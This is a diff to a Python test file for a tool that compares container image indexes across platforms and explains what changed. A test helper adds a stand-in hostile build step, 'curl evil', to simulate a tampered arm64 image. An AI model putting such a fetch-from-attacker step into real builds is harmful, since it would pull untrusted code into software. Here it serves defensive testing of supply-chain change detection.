@@ -555,7 +555,9 @@ def test_the_gravest_platform_speaks() -> None:
     assert change.verdict is Verdict.REPLACED
     assert change.reason.startswith("linux/arm64: ")
     assert change.diff is not None
-    assert [platform.verdict for platform in change.diff.platforms] == [None, Verdict.REPLACED]
+    assert change.platforms == ("linux/arm64",)
+    told = [(one.platform, one.verdict) for one in change.diff.platforms]
+    assert told == [("linux/arm64", None), ("linux/amd64", Verdict.REBUILT)]
 
 
 def unread_arm64(day: int) -> Built:
@@ -577,6 +579,85 @@ def test_only_an_unaudited_platform_moved() -> None:
     change = explain(before, after, ChangeContext(audited=(LINUX_AMD64,)))
     assert change.verdict is Verdict.PLATFORMS_CHANGED
     assert change.reason == "only platforms that are not audited moved: linux/arm64"
+
+
+def arm64(day: int, version: str = "3.12.3", *, evil: bool = False) -> Built:
+    extra = (run("curl evil"),) if evil else ()
+    return python(day, version, base=debian(day, platform=ARM64), extra=extra)
+
+
+NIGHTLY = ChangeContext(audited=(LINUX_AMD64,), alone=True)
+RISCV64 = Platform(os="linux", architecture="riscv64")
+
+
+def riscv64(day: int) -> Built:
+    return python(day, base=debian(day, platform=RISCV64))
+
+
+def test_a_platform_that_moved_alone_is_judged_whoever_audits_it() -> None:
+    change = explain(index(python(0), arm64(0)), index(python(0), arm64(1, evil=True)), NIGHTLY)
+    assert (change.verdict, change.platforms) == (Verdict.REPLACED, ("linux/arm64",))
+    assert change.reason.startswith("linux/arm64, which moved while linux/amd64 did not: ")
+    assert change.diff is not None
+    assert change.diff.alone == ("linux/arm64",)
+    primary = change.diff.primary
+    assert primary is not None
+    assert primary.platform == "linux/arm64"
+
+
+def test_a_platform_that_moved_alone_and_was_not_read_is_not_known() -> None:
+    before, after = index(python(0), unread_arm64(0)), index(python(0), unread_arm64(1))
+    change = explain(before, after, NIGHTLY)
+    assert (change.verdict, change.platforms) == (Verdict.UNKNOWN, ("linux/arm64",))
+    assert change.reason.startswith("linux/arm64, which moved while linux/amd64 did not: ")
+    assert change.reason.endswith("was not read")
+
+
+def test_a_platform_that_moved_with_the_audited_one_is_no_gap_unless_another_stayed() -> None:
+    before, after = index(python(0), unread_arm64(0)), index(python(1), unread_arm64(1))
+    assert explain(before, after, NIGHTLY).verdict is Verdict.REBUILT
+    before, after = (index(python(d), unread_arm64(d), riscv64(0)) for d in (0, 1))
+    change = explain(before, after, NIGHTLY)
+    assert (change.verdict, change.platforms) == (Verdict.UNKNOWN, ("linux/arm64",))
+
+
+def test_only_what_is_to_be_compared_is_judged_where_more_was_read() -> None:
+    before, after = index(python(0), arm64(0)), index(python(1), arm64(1, evil=True))
+    assert explain(before, after, NIGHTLY).verdict is Verdict.REPLACED
+    narrow = replace(NIGHTLY, compared=(LINUX_AMD64,))
+    change = explain(before, after, narrow)
+    assert (change.verdict, change.platforms) == (Verdict.REBUILT, ("linux/amd64",))
+
+
+def test_several_platforms_that_decide_are_all_named() -> None:
+    change = explain(index(python(0), arm64(0)), index(python(1), arm64(1)))
+    assert (change.verdict, change.platforms) == (Verdict.REBUILT, ("linux/amd64", "linux/arm64"))
+    assert change.reason.startswith("linux/amd64 and 1 more: ")
+
+
+def test_a_platform_that_follows_the_others_comes_from_its_own_version() -> None:
+    """An alias names the whole index 3.12.4, before arm64 has it and after."""
+    before = index(python(1, "3.12.4"), arm64(0, "3.12.3"))
+    after = index(python(1, "3.12.4"), arm64(1, "3.12.4"))
+    change = explain(before, after, NIGHTLY, versions=("3.12.4", "3.12.4"))
+    assert (change.verdict, change.reason) == (
+        Verdict.UPGRADED,
+        "linux/arm64: version 3.12.3 to 3.12.4",
+    )
+    elsewhere = index(python(1, "3.12.4"), arm64(1, "3.12.5"))
+    change = explain(before, elsewhere, NIGHTLY, versions=("3.12.4", "3.12.4"))
+    assert change.verdict is Verdict.REPLACED, "nobody promised 3.12.5"
+
+
+def test_attestations_never_move_alone() -> None:
+    before, after = (
+        index(python(0), attest(python(0), spdx(python(0), {"pkg:deb/debian/a": version})))
+        for version in ("1", "2")
+    )
+    change = explain(before, after, NIGHTLY)
+    assert change.verdict is Verdict.ATTESTATION_ONLY
+    assert change.diff is not None
+    assert change.diff.alone == ()
 
 
 def test_hostile_documents_are_an_answer() -> None:
